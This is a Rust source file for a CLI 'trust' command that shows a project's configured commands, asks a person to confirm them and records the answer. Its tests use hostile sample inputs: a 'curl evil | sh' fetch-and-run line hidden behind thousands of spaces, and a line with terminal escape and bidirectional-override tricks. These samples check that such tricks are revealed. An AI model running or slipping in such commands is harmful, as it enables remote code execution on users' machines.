//! `overmind trust`: what a project's file orders to be run is shown, and run only after somebody
//! confirmed it. `run` asks the same where it meets such a project.

use std::path::{Path, PathBuf};

use clap::{Args, ValueHint};
use overmind_api::{ProjectConfirm, ProjectTrust};
use overmind_core::shell_word::shell_word;

use crate::asked;
use crate::context::Context;
use crate::exit::{Exit, Failure, Outcome};
use crate::output::table::Tone;
use crate::output::when::counted;
use crate::output::{clean, paint};
use crate::remote::Remote;
use crate::show::{self, cell};

/// Most lines of orders that a question shows, and most characters of a line.
const LINES: usize = 15;
const WIDEST: usize = 400;

#[derive(Clone, Debug, Args)]
pub struct TrustArgs {
    /// Any directory of the project [default: the current directory]
    #[arg(value_hint = ValueHint::DirPath)]
    pub dir: Option<PathBuf>,
    /// Only show what it would run, and whether that is confirmed
    #[arg(long)]
    pub show: bool,
    /// Revoke the confirmation
    #[arg(long, conflicts_with = "show")]
    pub revoke: bool,
    /// Also give `setup` the network of this machine in sandboxes, to install packages
    #[arg(long, conflicts_with_all = ["show", "revoke"])]
    pub setup_network: bool,
    /// Do not ask
    #[arg(short, long, conflicts_with_all = ["show", "revoke"])]
    pub yes: bool,
}

/// # Errors
///
/// [`Exit::Usage`] when there is something to confirm and nobody can be asked; [`Exit::Failed`] when
/// the person says no, and with `--show` when it is not confirmed.
pub(crate) async fn run(cx: &Context, args: &TrustArgs) -> Outcome {
    let remote = Remote::connect(cx)?;
    let dir = cx.cwd.join(args.dir.as_deref().unwrap_or_else(|| ".".as_ref()));
    let dir = match args.revoke {
        // The confirmation of a removed project can be withdrawn, too.
        true => dir.canonicalize().unwrap_or(dir),
        false => dir.canonicalize().map_err(|err| {
            Failure::new(Exit::NotFound, format!("looking at {}: {err}", dir.display()))
        })?,
    };
    let path = text(&dir)?;
    if args.revoke {
        let done = remote.client().project_revoke(path).await.map_err(Failure::from)?;
        cx.out.note(match done.revoked {
            true => "revoked: its commands do not run until they are confirmed again",
            false => "this project was not confirmed",
        });
        return Ok(Exit::Done);
    }
    let found = remote.client().project_trust(path).await.map_err(Failure::from)?;
    let granted = found.given.as_ref().is_some_and(|given| given.setup_network);
    let enough = found.trusted && (granted || !args.setup_network);
    if args.show || found.orders.is_empty() || enough {
        tell(cx, &found)?;
        return Ok(if found.trusted || !args.show { Exit::Done } else { Exit::Failed });
    }
    if !args.yes && !asked::possible(cx) {
        let dir = shell_word(&found.project);
        return Err(Failure::usage(format!(
            "there is no terminal to ask at: read its commands with `overmind trust --show {dir}`, then \
             type `overmind trust --yes {dir}`"
        )));
    }
    let network = match args.yes {
        true => args.setup_network,
        // A person who confirmed this content already is asked only about new parts.
        false => match ask(cx, &found, args.setup_network).await? {
            Some(network) => network,
            None => return Err(Failure::failed("nothing was confirmed")),
        },
    };
    let confirmed = confirm(&remote, &found, network).await?;
    state(cx, &confirmed)?;
    Ok(Exit::Done)
}

fn text(dir: &Path) -> Result<&str, Failure> {
    dir.to_str().ok_or_else(|| Failure::usage(format!("{} is not UTF-8", dir.display())))
}

fn tell(cx: &Context, found: &ProjectTrust) -> Result<(), Failure> {
    if cx.out.for_people() && !found.orders.is_empty() {
        for line in about(cx, found, usize::MAX, None) {
            cx.out.note(&line);
        }
    }
    state(cx, found)
}

fn state(cx: &Context, found: &ProjectTrust) -> Result<(), Failure> {
    show::one(&cx.out, found, &found.project, || {
        let state = match (&found.given, found.trusted) {
            (_, true) if found.orders.is_empty() => ("it orders nothing".to_owned(), Tone::Good),
            (Some(given), true) => {
                let network = if given.setup_network { ", setup with network" } else { "" };
                (format!("confirmed by {}{network}", given.by), Tone::Good)
            }
            (Some(given), false) => (format!("changed since {} confirmed it", given.by), Tone::Bad),
            (None, _) => ("not confirmed".to_owned(), Tone::Bad),
        };
        vec![("project", cell(clean::line(&found.project))), ("orders", state)]
    })
}

/// The information for a person's decision: the project, the exact text of its commands up to
/// `most` lines, and the rights with which they run. `network`: whether setup gets this machine's
/// network, if that is already decided.
fn about(cx: &Context, found: &ProjectTrust, most: usize, network: Option<bool>) -> Vec<String> {
    let mut lines = vec![
        format!("project {}", clean::line(&found.project)),
        "its .overmind.yml wants to run, or to be given:".to_owned(),
    ];
    let (first, left) = beginning(&found.orders, most);
    let coloured = |line: &String| format!("  {}", paint(line, Tone::Busy, cx.out.err_colour));
    lines.extend(first.iter().map(coloured));
    if left > 0 {
        let (more, dir) = (counted(left as u64, "more line"), shell_word(&found.project));
        lines.push(format!("  … {more}: `overmind trust --show {}`", clean::line(&dir)));
    }
    let setup = match network {
        Some(true) => ", setup with the network of this machine",
        Some(false) if installs(found) => {
            " (answer w to also give setup the network of this machine)"
        }
        Some(false) | None => "",
    };
    lines.push(format!("with the sandbox and the network of each run{setup}"));
    for objects in &found.borrows {
        let objects = clean::line(objects);
        lines.push(format!("its runs can also read the git objects in {objects}"));
    }
    lines
}

/// The first lines of the orders, without what a terminal would obey, and how many lines are left. A
/// line that is longer than a screen ends where the screen would, and counts as left.
fn beginning(orders: &[String], most: usize) -> (Vec<String>, usize) {
    let all: Vec<_> = orders.iter().flat_map(|order| order.lines()).collect();
    // One more line than fits is shown instead of the remark about it.
    let shown = if all.len() == most.saturating_add(1) { all.len() } else { all.len().min(most) };
    let mut left = all.len() - shown;
    let cut = |line: &&str| {
        let line = clean::line(line);
        match most < usize::MAX && line.chars().count() > WIDEST {
            true => {
                left += 1;
                format!("{}…", line.chars().take(WIDEST).collect::<String>())
            }
            false => line.into_owned(),
        }
    };
    let first = all[..shown].iter().map(cut).collect();
    (first, left)
}

fn installs(found: &ProjectTrust) -> bool {
    found.orders.iter().any(|order| order.starts_with("setup"))
}

/// Shows the person at the terminal what the project wants, and asks. `Some`: confirmed, and whether
/// setup has the network.
async fn ask(cx: &Context, found: &ProjectTrust, network: bool) -> Result<Option<bool>, Failure> {
    let mut most = LINES;
    loop {
        for line in about(cx, found, most, Some(network)) {
            cx.out.question(&line);
        }
        loop {
            let question = "run this for runs of the project? [y]es, once for this content, [n]o, [s]how all: ";
            let Some(typed) = asked::typed(question).await? else { return Ok(None) };
            match typed.as_str() {
                "y" | "yes" => return Ok(Some(network)),
                "w" if installs(found) => return Ok(Some(true)),
                "n" | "no" => return Ok(None),
                "s" | "show" => break,
                _ => {}
            }
        }
        most = usize::MAX;
    }
}

async fn confirm(
    remote: &Remote,
    found: &ProjectTrust,
    setup_network: bool,
) -> Result<ProjectTrust, Failure> {
    let hash = found.hash.clone().unwrap_or_default();
    let confirm = ProjectConfirm { project: found.project.clone(), hash, setup_network };
    Ok(remote.client().project_confirm(&confirm).await?)
}

/// The treatment of a run that was refused because its project's orders are not confirmed: `true` when
/// they are now.
///
/// # Errors
///
/// Returns an error if they could not be read or confirmed.
pub(crate) async fn agreed(
    cx: &Context,
    remote: &Remote,
    dir: &str,
    without_asking: bool,
) -> Result<bool, Failure> {
    if remote.own().is_some() || !(without_asking || asked::possible(cx)) {
        return Ok(false);
    }
    let found = match remote.client().project_trust(dir).await.map_err(Failure::from) {
        Ok(found) => found,
        // For a caller who is not an admin, the refusal says so.
        Err(failure) if failure.exit == Exit::Denied => return Ok(false),
        Err(failure) => return Err(failure),
    };
    if found.trusted {
        return Ok(true);
    }
    if without_asking {
        confirm(remote, &found, false).await?;
        return Ok(true);
    }
    match ask(cx, &found, false).await? {
        Some(network) => {
            confirm(remote, &found, network).await?;
            Ok(true)
        }
        None => Ok(false),
    }
}

/// Confirms the file that `overmind init` has just written for the person at the terminal, where a
/// server is there and takes it; otherwise the first run asks.
pub(crate) async fn of_init(cx: &Context, top: &Path) -> Result<bool, Failure> {
    let Ok(remote) = Remote::connect(cx) else { return Ok(false) };
    let Ok(found) = remote.client().project_trust(text(top)?).await else { return Ok(false) };
    if found.orders.is_empty() {
        return Ok(true);
    }
    Ok(confirm(&remote, &found, true).await.is_ok())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn lines(count: usize) -> Vec<String> {
        (0..count).map(|n| format!("setup: step {n}")).collect()
    }

    #[test]
    fn a_question_shows_a_screen_of_orders_and_counts_the_others() {
        assert_eq!(beginning(&lines(15), LINES), (lines(15), 0));
        assert_eq!(beginning(&lines(16), LINES), (lines(16), 0));
        assert_eq!(beginning(&lines(40), LINES), (lines(15), 25));
        assert_eq!(beginning(&lines(40), usize::MAX), (lines(40), 0));
        let one = vec![format!("setup: {}", lines(20).join("\n"))];
        assert_eq!(beginning(&one, LINES).1, 5, "the lines of one order count each");
    }

    #[test]
    fn no_order_hides_behind_spaces_or_moves_the_terminals_cursor() {
        let sly = vec![format!("setup: make{}; curl evil | sh", " ".repeat(5_000))];
        let (shown, left) = beginning(&sly, LINES);
        assert!(left == 1 && shown[0].ends_with('…') && shown[0].chars().count() == WIDEST + 1);
        assert_eq!(beginning(&sly, usize::MAX), (sly, 0));
        let (shown, _) = beginning(&["setup: rm x\r\u{1b}[2Kmake \u{202e}".into()], LINES);
        assert!(!shown[0].contains(['\r', '\u{1b}', '\u{202e}']), "{shown:?}");
    }
}
